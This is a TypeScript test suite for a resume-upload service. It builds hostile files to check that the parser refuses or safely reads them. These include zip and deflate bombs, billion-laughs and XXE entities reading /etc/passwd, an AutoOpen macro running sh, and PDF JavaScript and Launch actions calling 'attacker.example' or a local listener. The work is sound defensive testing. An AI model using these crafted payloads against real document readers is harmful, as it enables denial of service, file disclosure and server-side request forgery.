import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setInterval } from 'node:timers/promises';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTurns } from '#src/platform/turns.ts';
import { signIn } from '#test/factories/sign-in.ts';
import { uploadFile } from '#test/factories/upload-file.ts';
import { packDocx } from '#test/resumes/layouts/docx.ts';
import { simplePdf } from '#test/resumes/simple-pdf.ts';
import { word97 } from '#test/resumes/word-97.ts';
import { startTestApp, type TestApp, type TestVisitor } from '#test/test-app.ts';
import { runChild } from './run-child.ts';

const WORDS = ['Ines Okafor', 'ines.okafor@post.example', 'Skills', 'Welding, Soldering'];
const PDF = simplePdf([WORDS.map((text, at): [number, number, string] => [50, 780 - at * 20, text])]);
const body = WORDS.map((text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`).join('');
const ENCRYPTED = `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<${'5a'.repeat(32)}>/U<${'5b'.repeat(32)}>>>/ID[<01><01>]`;
const SCRIPTS =
  '/OpenAction<</S/JavaScript/JS(app.launchURL("http://attacker.example"))>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>';
const edit = (pdf: Buffer, from: string | RegExp, to: string) =>
  Buffer.from(pdf.toString('latin1').replace(from, to), 'latin1');

/** Bombs take a while to pack, and several tests send them. */
function packOnce(make: () => Buffer): () => Buffer {
  let made: Buffer | undefined;
  return () => {
    made ??= make();
    return made;
  };
}

/** A page whose text is 100 MB when it is unpacked. */
const flateBomb = packOnce(() => {
  const text = Buffer.alloc(100_000_000, 'BT /F 10 Tf 50 700 Td (aaaaaaaaaaaaaaaaaaaa) Tj ET\n');
  const packed = deflateSync(text, { level: 9 }).toString('latin1');
  const stream = `<</Length ${packed.length}/Filter/FlateDecode>>stream\n${packed}\nendstream`;
  return edit(simplePdf([[]], { extra: [stream] }), '/Contents 4 0 R', '/Contents 6 0 R');
});

const zipBomb = packOnce(() => packDocx({ body: `<w:p><w:r><w:t>${'A'.repeat(100_000_000)}</w:t></w:r></w:p>` }));
const manyPages = packOnce(() => simplePdf(Array.from({ length: 500 }, () => [[50, 780, WORDS.join(' ')]])));
const circle = () => word97(WORDS, { isCircle: true });
const nested = () => packDocx({ body: '<w:tbl><w:tr><w:tc>'.repeat(200_000) });
const entities = () => {
  const levels = Array.from({ length: 12 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('');
  const xml = `<!DOCTYPE x [<!ENTITY e0 "lol">${levels}<!ENTITY file SYSTEM "file:///etc/passwd">]>`;
  const text = `${body}<w:p><w:r><w:t>&e12;&file;</w:t></w:r></w:p>`;
  return packDocx({ body, parts: { 'word/document.xml': `${xml}<w:document><w:body>${text}</w:body></w:document>` } });
};

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(() => app?.close());

let people = 0;
const talent = () => signIn(app, `hostile-${++people}@parley.example`);

async function upload(person: TestVisitor, bytes: Buffer, name: string) {
  const { envelope } = await uploadFile(person, bytes, name, { kind: 'resume' });
  expect(envelope.code).toBe(0);
  return envelope.data as { id: string; url: string };
}
const parse = async (person: TestVisitor, file: { id: string }) =>
  (await person.call('POST', '/jobseeker/resume/parse', { file_id: file.id })).envelope;

describe('hostile resumes', () => {
  it.each<[string, string, () => Buffer, string]>([
    ['a zip bomb', 'cv.docx', zipBomb, 'tooLarge'],
    ['a bomb of text in a PDF', 'cv.pdf', flateBomb, 'tooLarge'],
    ['500 pages', 'cv.pdf', manyPages, 'tooLarge'],
    ['a PDF with a password', 'cv.pdf', () => simplePdf([[]], { trailer: ENCRYPTED }), 'protected'],
    ['a DOC whose sectors run in a circle', 'cv.doc', circle, 'tooLarge'],
    ['a PDF that is cut off', 'cv.pdf', () => PDF.subarray(0, 60), 'broken'],
    ['a DOC that is cut off', 'cv.doc', () => word97(WORDS).subarray(0, 1300), 'broken'],
    ['a page tree that is its own child', 'cv.pdf', () => edit(PDF, /Kids\[[^\]]*\]/, 'Kids[2 0 R]'), 'broken'],
  ])('RES-02 %s is 41281 with its reason, and is kept', async (_, name, make, reason) => {
    const me = await talent();
    const file = await upload(me, make(), name);
    const { id } = await me.api('POST /jobseeker/attached-resumes', { file_id: file.id });
    expect(await parse(me, file)).toMatchObject({ code: 41281, data: { reason } });
    expect((await me.fetch(file.url)).status).toBe(200);
    const { resumes } = await me.api('GET /jobseeker/attached-resumes', {});
    expect(resumes).toMatchObject([{ id, refusal: reason, is_syncable: false }]);
    const preview = await me.call('GET', `/jobseeker/attached-resumes/${id}/preview`);
    expect([200, 400, 422]).toContain(preview.status);
  });

  it.each<[string, string, () => Buffer]>([
    ['a macro in a DOC', 'cv.doc', () => word97(WORDS, { macro: 'Sub AutoOpen(): Shell "sh": End Sub' })],
    ['a macro in a DOCX', 'cv.docx', () => packDocx({ body, parts: { 'word/vbaProject.bin': 'Sub AutoOpen()' } })],
    ['a table of places that is wrong', 'cv.pdf', () => edit(PDF, /startxref\n\d+/, 'startxref\n7')],
    ['a PDF with a script', 'cv.pdf', () => edit(PDF, '/Type/Catalog', `/Type/Catalog${SCRIPTS}`)],
    ['no table of places', 'cv.pdf', () => edit(PDF, /xref\n0[\s\S]*?trailer/, 'trailer')],
    ['entities that grow and entities that read files', 'cv.docx', entities],
    ['a zip behind a PDF', 'cv.pdf', () => Buffer.concat([PDF, packDocx({ body: '' })])],
  ])('RES-02 %s is read for its words and does nothing else', async (_, name, make) => {
    const me = await talent();
    const answer = await parse(me, await upload(me, make(), name));
    expect(answer).toMatchObject({
      code: 0,
      data: { content: { first_name: 'Ines', skills: [{ name: 'Welding' }, { name: 'Soldering' }] } },
    });
    expect(JSON.stringify(answer)).not.toMatch(/lollol|root:/);
  });

  it('RES-01 a file that is named a resume and is none is refused at the door, in the reader’s language', async () => {
    const office = 'application/vnd.ms-word.document.macroEnabled.main+xml';
    const types = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${office}"/></Types>`;
    const macroFile = packDocx({ body, parts: { '[Content_Types].xml': types } });
    const program = Buffer.from(`MZ${'\x90\0'.repeat(200)}This program cannot be run in DOS mode`, 'latin1');
    const me = await talent();
    const refused = new Set<string>();
    for (const language of ['1', '2']) {
      for (const [bytes, name, why] of [
        [macroFile, 'cv.docx', 41008],
        [program, 'cv.pdf', 49102],
        [program, 'cv.doc', 49102],
      ] as const) {
        const form = new FormData();
        form.set('kind', 'resume');
        form.set('files', new Blob([Buffer.from(bytes)]), name);
        const headers = { 'language-id': language };
        const answer = await me.fetch('/api/api-go/file/upload', { method: 'POST', body: form, headers });
        const { code, message } = (await answer.json()) as { code: number; message: string };
        expect(code, name).toBe(why);
        refused.add(message);
      }
    }
    expect(refused.size).toBe(4);
    const { rows } = await app.database.pool.query('select 1 from files where name = any($1) and account_id = $2', [
      ['cv.docx', 'cv.pdf', 'cv.doc'],
      (await me.api('GET /jobseeker/me')).id,
    ]);
    expect(rows).toEqual([]);
  });

  it('RES-02 a file that takes more memory than a resume does is given up, and says so', async () => {
    const program = new URL('./read/child.ts', import.meta.url);
    const read = (memory: number) => {
      const limits = { workSeconds: 60, seconds: 120, memory, inTurn: createTurns(1) };
      return runChild(PDF, { program, hints: {}, mostAnswer: 1024 * 1024, limits });
    };
    // The program alone takes more than this.
    expect(await read(60)).toEqual({ reason: 'tooLarge' });
    expect(Buffer.isBuffer(await read(300))).toBe(true);
  });

  it('RES-02 nothing is fetched, whatever a file asks for', async () => {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const site = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const me = await talent();
      for (const [bytes, name] of fetchingFiles(site)) {
        const file = await upload(me, bytes, name);
        const { id } = await me.api('POST /jobseeker/attached-resumes', { file_id: file.id });
        expect(await parse(me, file)).toMatchObject({ code: 0, data: { content: { first_name: 'Ines' } } });
        await me.api('GET /jobseeker/attached-resumes/:id/preview', { id });
      }
      expect(asked).toEqual([]);
    } finally {
      server.close();
    }
  });

  it('RES-02 several at once keep neither the server nor someone else’s resume waiting', async () => {
    const [attacker, other] = [await talent(), await talent()];
    const bad = [circle(), nested(), zipBomb()];
    const files: { id: string; url: string }[] = [];
    for (const [at, bytes] of bad.entries()) files.push(await upload(attacker, bytes, at === 0 ? 'a.doc' : 'a.pdf'));
    const mine = await upload(other, PDF, 'cv.pdf');
    let left = files.length;
    const readings = files.map(async (file) => {
      const { code } = await parse(attacker, file);
      left--;
      return code;
    });
    const read = parse(other, mine).then((answer) => ({ answer, left }));
    const waits: number[] = [];
    // Someone who presses now and then: calls without a pause would take the processor from the readers.
    for await (const _ of setInterval(25)) {
      if (left === 0) break;
      const from = performance.now();
      await other.api('GET /jobseeker/me');
      waits.push(performance.now() - from);
    }
    const { answer, left: leftThen } = await read;
    expect(answer).toMatchObject({ code: 0, data: { content: { first_name: 'Ines' } } });
    expect(leftThen).toBeGreaterThan(1);
    // On a busy machine the last ones wait for their own turn until the call has taken too long.
    for (const code of await Promise.all(readings)) expect([41281, 49007]).toContain(code);
    waits.sort((a, b) => a - b);
    expect(waits[Math.floor(waits.length * 0.95)]).toBeLessThan(500);
  });
});

/** Files that ask whoever opens them to fetch something, in every way that their formats know. */
function fetchingFiles(site: string): [Buffer, string][] {
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const relation = (id: string, type: string) =>
    `<Relationship Id="${id}" Type="${office}/${type}" Target="${site}/${type}" TargetMode="External"/>`;
  const rels = (...types: string[]) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${types.map((type, at) => relation(`r${at}`, type)).join('')}</Relationships>`;
  const drawn = `<w:p><w:r><w:instrText>INCLUDEPICTURE "${site}/field"</w:instrText></w:r><w:r><w:object><o:OLEObject Type="Link" r:id="r1"/></w:object><w:drawing><a:blip r:link="r2"/></w:drawing></w:r></w:p>`;
  const word = packDocx({
    body: body + drawn,
    parts: {
      'word/_rels/document.xml.rels': rels('hyperlink', 'oleObject', 'image', 'subDocument', 'frame', 'aFChunk'),
      'word/settings.xml': '<w:settings><w:attachedTemplate r:id="r0"/></w:settings>',
      'word/_rels/settings.xml.rels': rels('attachedTemplate'),
      'word/embeddings/oleObject1.bin': 'Package',
    },
  });
  const doctype = `<!DOCTYPE w:document SYSTEM "${site}/doctype" [<!ENTITY % p SYSTEM "${site}/entity"> %p;]>`;
  const entity = packDocx({
    body,
    parts: { 'word/document.xml': `${doctype}<w:document><w:body>${body}</w:body></w:document>` },
  });
  const script = `/OpenAction<</S/JavaScript/JS(this.submitForm\\("${site}/script"\\);app.launchURL\\("${site}/launch"\\))>>`;
  const actions = `/AA<</WC<</S/URI/URI(${site}/uri)>>/WS<</S/SubmitForm/F(${site}/form)>>/DS<</S/Launch/F(/bin/sh)>>>>`;
  const form = `/AcroForm<</Fields[]/XFA(<xdp:xdp><config><url>${site}/xfa</url></config></xdp:xdp>)>>`;
  const lines = WORDS.map((text, at): [number, number, string] => [50, 780 - at * 20, text]);
  return [
    [word, 'cv.docx'],
    [entity, 'more.docx'],
    [simplePdf([lines], { catalog: script + actions + form }), 'cv.pdf'],
  ];
}
